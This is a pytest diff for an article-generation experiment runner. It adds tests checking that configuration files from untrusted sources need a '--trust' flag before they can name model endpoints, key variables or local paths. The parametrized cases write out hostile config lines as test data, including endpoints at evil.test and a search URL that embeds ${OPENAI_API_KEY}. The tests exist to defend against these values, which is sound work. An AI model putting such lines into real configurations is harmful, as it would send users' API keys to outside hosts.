@@ -413,7 +413,8 @@ def config_file(model: FakeModel, tmp_path: Path) -> Path:
 def test_the_command_writes_a_report(data: Path, model: FakeModel, tmp_path: Path) -> None:
     out = tmp_path / "out"
     done = command(
-        "run", str(config_file(model, tmp_path)), "--size", "smoke", "--out", str(out), "--cache", str(CACHE)
+        *("run", str(config_file(model, tmp_path)), "--size", "smoke", "--out", str(out), "--cache", str(CACHE)),
+        "--trust",
     )
     assert done.exit_code == 0, done.output
     assert "to be written: 1 articles" in done.output
@@ -443,6 +444,7 @@ def test_an_experiment_on_a_full_disk_says_so_and_goes_on_later(
     """Once for files that may not grow, and once on a small file system, where one can be mounted."""
     out = tmp_path / "small" / "out"
     write = ("run", str(config_file(model, tmp_path)), "--size", "smoke", "--out", str(out), "--cache", str(CACHE))
+    write = (*write, "--trust")
     with files_may_not_grow(size):
         limited = command(*write)
     outcomes = [(limited, "File too large")]
@@ -464,7 +466,8 @@ def test_failed_articles_end_the_command_with_an_error(data: Path, tmp_path: Pat
     broken = Reply(status=400, body={"error": {"message": "no such model"}})
     with FakeModel(faults={"WriteArticle": [broken] * 9, "PlanOutline": [broken] * 9}) as model:
         file = str(config_file(model, tmp_path))
-        done = command("run", file, "--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE))
+        there = ("--out", str(tmp_path / "out"), "--cache", str(CACHE))
+        done = command("run", file, "--size", "smoke", *there, "--trust")
     assert done.exit_code == 1
     assert "1 articles failed" in done.output
     assert "Traceback" not in done.output
@@ -530,3 +533,62 @@ def test_the_shipped_configurations_are_valid_in_every_size(file: Path) -> None:
 def test_a_missing_data_set_is_reported_with_a_remedy(model: FakeModel, tmp_path: Path) -> None:
     with pytest.raises(DatasetError, match="STORM_DATA"):
         run(described(model), tmp_path / "out")
+
+
+def test_an_experiment_from_elsewhere_gets_no_key_without_consent(
+    data: Path, model: FakeModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its file may name models at their providers; an address, a variable or a file of another needs consent."""
+    monkeypatch.setenv("STORM_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("OPENAI_API_KEY", "my-own-key-123456")
+    file = config_file(model, tmp_path)
+    write = ("run", str(file), "--size", "smoke", "--out", str(tmp_path / "out"), "--cache", str(CACHE))
+    refused = command(*write)
+    assert refused.exit_code == 2, refused.output
+    assert "sets lm: that decides who gets a key" in refused.output and "--trust" in refused.output
+    assert not model.asked and not (tmp_path / "out").exists()
+    assert command(*write, "--trust").exit_code == 0
+    asked = len(model.asked)
+    assert asked
+    again = command(*write)  # the consent is remembered, and nothing is left to do
+    assert again.exit_code == 0 and "all articles are written" in again.output
+    file.write_text(
+        file.read_text("utf-8").replace('lm = "', 'expert_lm = "openai/x@http://evil.test/v1"\nlm = "'), "utf-8"
+    )
+    changed = command(*write)
+    assert changed.exit_code == 2 and "sets expert_lm, lm" in changed.output
+    given = command(*write, "--lm", model.lm, "--expert-lm", model.lm)  # what the command gives is the user's word
+    assert "--trust" not in given.output
+
+
+@pytest.mark.parametrize(
+    ("table", "line"),
+    [
+        ("[settings]", "api_base = 'http://evil.test/v1'"),
+        ("[settings]", "api_key_env = 'OPENAI_API_KEY'"),
+        ("[settings]", "search = 'searxng:http://evil.test/${OPENAI_API_KEY}'"),
+        ("[settings]", "search = 'corpus:/home'"),
+        ("[settings]", "programs = 'compiled'"),
+        ("[settings]", "prices = ['openai/gpt-4o=0/0']"),
+        ("[settings]", "embedder = '../model'"),
+        ("[settings]", "lm = 'gguf:weights.gguf'"),
+        ("[resources]", "judge_lm = 'openai/x@http://evil.test'"),
+        ("[resources]", "judge = 'lm:openai/x@http://evil.test'"),
+        ("[resources]", "tagger = 'spacy:./evil'"),
+        ("[resources]", "wordnet = '/home'"),
+        ("[resources.conner]", "lm = 'openai/x@http://evil.test'"),
+        ("[resources.conner]", "inference = 'evil'"),
+        ("[[methods]]", "recipe = 'direct'\n[methods.settings]\nwriter_lm = 'openai/x@http://evil.test'"),
+        ("[[variants]]", "name = 'v'\nsettings = { writer_lm = 'openai/x@http://evil.test' }"),
+        ("[sizes.smoke]", "settings = { writer_lm = 'openai/x@http://evil.test' }"),
+    ],
+)
+def test_every_table_of_an_experiment_is_asked_about(data: Path, tmp_path: Path, table: str, line: str) -> None:
+    head = "title = 't'\nbaseline = 'rr'\nmetrics = ['shape']\n[data]\nset = 'wikigenbench'\npath = 'bench'\n"
+    size = "" if "sizes" in table else "[sizes.smoke]\ntopics = 1\n"
+    file = tmp_path / "from-elsewhere.toml"
+    file.write_text(f"{head}[[methods]]\nrecipe = 'rr'\n{size}{table}\n{line}\n", "utf-8")
+    done = command("run", str(file), "--size", "smoke", "--out", str(tmp_path / "out"))
+    assert done.exit_code == 2, done.output
+    assert "add --trust" in done.output, done.output
+    assert not (tmp_path / "out").exists()
